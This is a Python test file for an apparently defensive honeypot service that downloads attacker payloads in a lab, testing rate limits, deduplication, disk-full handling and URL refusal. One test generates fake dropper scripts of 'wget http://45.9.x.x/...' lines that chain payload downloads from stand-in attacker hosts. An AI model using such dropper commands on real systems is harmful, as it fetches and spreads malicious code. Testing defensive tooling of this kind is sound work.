"""Turns, rates, sharing and full disks: what many wishes cost together."""

from __future__ import annotations

import asyncio

import pytest

from eudaemon.payload.fetch.memory import Memory, Rates
from eudaemon.payload.fetch.policy import FetchSettings
from eudaemon.payload.fetch.service import Fetcher, FetchResult
from eudaemon.payload.fetch.transfer import MemorySink, NoRoomError
from eudaemon.payload.follow import follow
from eudaemon.world.host import Host
from eudaemon.world.outside import Download
from eudaemon.world.seed import Seed
from payload.servers import ATTACKER, Lab, saying, serving

OK = b"HTTP/1.1 200 OK\r\n\r\n"


class Counting:
    """A server that counts its guests, and lets them wait until told."""

    def __init__(self) -> None:
        self.now = self.most = self.all = 0
        self.go = asyncio.Event()
        self.paths: list[str] = []

    async def talk(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.now, self.all = self.now + 1, self.all + 1
        self.most = max(self.most, self.now)
        self.paths.append((await reader.readuntil(b"\r\n\r\n")).split(b" ")[1].decode())
        await self.go.wait()
        self.now -= 1
        writer.write(OK + b"sample")


async def _settle() -> None:
    for _ in range(50):
        await asyncio.sleep(0.002)


async def test_the_same_wish_of_many_is_one_download() -> None:
    server = Counting()
    async with serving(server.talk) as port:
        lab = Lab()
        tasks = [asyncio.create_task(lab.fetch(f"http://127.0.0.1:{port}/x")) for _ in range(100)]
        await _settle()
        tasks[0].cancel()  # one of the sessions ends
        server.go.set()
        results = await asyncio.gather(*tasks[1:])
        assert {r.outcome for r in results} == {"ok"}
        again = await lab.fetch(f"http://127.0.0.1:{port}/x")
        assert again.sha256 == results[0].sha256
        assert server.all == 1
        await lab.fetch(f"http://127.0.0.1:{port}/x", "curl")  # a server may tell tools apart
        assert server.all == 2


async def test_a_session_that_ends_does_not_end_its_download() -> None:
    server = Counting()
    async with serving(server.talk) as port:
        lab = Lab()
        task = asyncio.create_task(lab.fetch(f"http://127.0.0.1:{port}/x"))
        await _settle()
        task.cancel()
        server.go.set()
        await _settle()
    assert list(lab.kept.values()) == [b"sample"]


async def test_only_so_many_at_once_and_only_so_many_waiting() -> None:
    server = Counting()
    async with serving(server.talk) as port:
        lab = Lab(concurrent_max=3, waiting_max=4)
        tasks = [asyncio.create_task(lab.fetch(f"http://127.0.0.1:{port}/{n}")) for n in range(10)]
        await _settle()
        server.go.set()
        results = await asyncio.gather(*tasks)
    assert server.most == 3
    assert [r.outcome for r in results] == ["ok"] * 7 + ["refused"] * 3
    assert results[-1].reason == "too many downloads waiting"


async def test_only_so_many_a_minute() -> None:
    async with serving(saying(OK + b"x"), "127.0.0.2") as port:
        lab = Lab(starts_per_minute_max=5, starts_per_host_minute_max=3)
        reasons = [(await lab.fetch(f"http://127.0.0.2:{port}/{n}")).reason for n in range(6)]
    assert reasons == ["", "", ""] + ["too many downloads from this address in a minute"] * 2 + [
        "too many downloads in a minute"
    ]


async def test_redirects_count_against_the_address_too() -> None:
    async with serving(saying(b"HTTP/1.1 302 x\r\nLocation: /y\r\n\r\n")) as port:
        result = await Lab(redirects_max=50, starts_per_host_minute_max=4).fetch(f"http://127.0.0.1:{port}/")
    assert result.reason == "too many downloads from this address in a minute"


def test_rates_fill_again() -> None:
    rates = Rates()
    assert [rates.may_start("a", 0.0, 2) for _ in range(3)] == [True, True, False]
    assert not rates.may_start("a", 29.0, 2)
    assert rates.may_start("a", 31.0, 2)
    assert rates.may_start("b", 31.0, 2)
    for number in range(5000):
        rates.may_start(str(number), 31.0, 2)
    assert len(rates._buckets) <= 1024


def test_memory_is_bounded_and_fades() -> None:
    memory = Memory(FetchSettings(remembered_bytes_max=10_000, same_url_s=10, failed_url_s=1))
    for number in range(9):
        memory.remember(("", "", str(number)), FetchResult("u", "ok", head=b"x" * 1000, sha256="a"), 0.0)
    assert memory.recall(("", "", "8"), 9.9) is not None
    assert memory.recall(("", "", "8"), 10.0) is None
    assert memory.recall(("", "", "0"), 0.0) is None
    memory.remember(("", "", "huge"), FetchResult("u", "ok", head=b"x" * 20_000, sha256="a"), 0.0)
    assert memory.recall(("", "", "huge"), 0.0) is None
    memory.remember(("", "", "no"), FetchResult("u", "failed"), 0.0)
    assert memory.recall(("", "", "no"), 0.9) is not None
    assert memory.recall(("", "", "no"), 1.1) is None


@pytest.mark.parametrize("fails", ["write", "commit"])
async def test_a_full_disk_fails_the_download_and_forgets_its_bytes(fails: str) -> None:
    aborted = []

    class Full(MemorySink):
        def write(self, data: bytes) -> None:
            if fails == "write":
                raise NoRoomError("the disk is full")

        def commit(self) -> tuple[str, int]:
            raise NoRoomError("the disk is full")

        def abort(self) -> None:
            aborted.append(True)

    fetcher = Fetcher(FetchSettings(lab_networks=("127.0.0.0/8",)), Full, Seed(b"x"))
    async with serving(saying(OK + b"x")) as port:
        result = await fetcher.fetch(Download(f"http://127.0.0.1:{port}/", "wget"), ATTACKER)
    assert (result.outcome, result.reason, result.sha256, aborted) == ("failed", "the disk is full", "", [True])


async def test_closing_gives_up_what_is_under_way() -> None:
    server = Counting()
    async with serving(server.talk) as port:
        lab = Lab()
        task = asyncio.create_task(lab.fetch(f"http://127.0.0.1:{port}/x"))
        await _settle()
        await lab.fetcher.close()
        with pytest.raises(asyncio.CancelledError):
            await task
        server.go.set()
    assert not lab.kept


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("gopher://8.8.8.8/x", "scheme gopher"),
        ("dns://8.8.8.8/x", "scheme dns"),
        ("http://", "no host"),
        ("http://user name/x", "no host name"),
        ("http://h:99999/x", "no port"),
        ("nothing", "no scheme"),
        ("http://h/" + "x" * 5000, "URL over 4096 characters"),
    ],
)
async def test_what_is_no_download_is_refused(url: str, reason: str) -> None:
    result = await Lab().fetch(url)
    assert (result.outcome, result.reason, result.downloaded.outcome) == ("refused", reason, "refused")


async def test_policy_off_asks_nobody() -> None:
    server = Counting()
    async with serving(server.talk) as port:
        for scheme in ("http", "https", "ftp", "tftp", "redis", "nc", "tcp"):
            result = await Lab(policy="off").fetch(f"{scheme}://127.0.0.1:{port}/x")
            assert (result.outcome, result.reason) == ("refused", "policy")
    assert server.all == 0


async def test_plain_tcp() -> None:
    async def talk(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"\x7fELF" + bytes(range(256)) * 300)

    async with serving(talk) as port:
        assert await Lab().content(f"nc://127.0.0.1:{port}/", "nc") == b"\x7fELF" + bytes(range(256)) * 300


async def test_scripts_are_followed_within_the_caps() -> None:
    """Every script names two more, on ever new hosts."""
    asked: list[str] = []

    async def fetch(download: Download) -> FetchResult:
        asked.append(download.url)
        name = download.url.rpartition("/")[2]
        script = b"#!/bin/sh\n" + b"".join(
            b"wget http://45.9.%d.%d/%s%d\n" % (len(name), n, name.encode(), n) for n in (1, 2)
        )
        return FetchResult(download.url, "ok", head=script, size=len(script), sha256="a")

    async def followed(**settings: int) -> int:
        asked.clear()
        start = [Download("http://45.9.8.7/s", "wget")]
        host = Host.from_seed(Seed(b"follow"))
        return len([x async for x in follow(start, fetch, FetchSettings(**settings), host, ATTACKER)])

    assert await followed(depth_max=0) == 1
    assert await followed(depth_max=2, hosts_max=99) == 1 + 2 + 4
    assert await followed(depth_max=9, hosts_max=99, urls_max=20) == 20
    assert await followed(depth_max=9, hosts_max=3) == 3
    assert await followed(depth_max=9, hosts_max=99, bytes_max=150) == 3
    assert len(set(asked)) == len(asked)
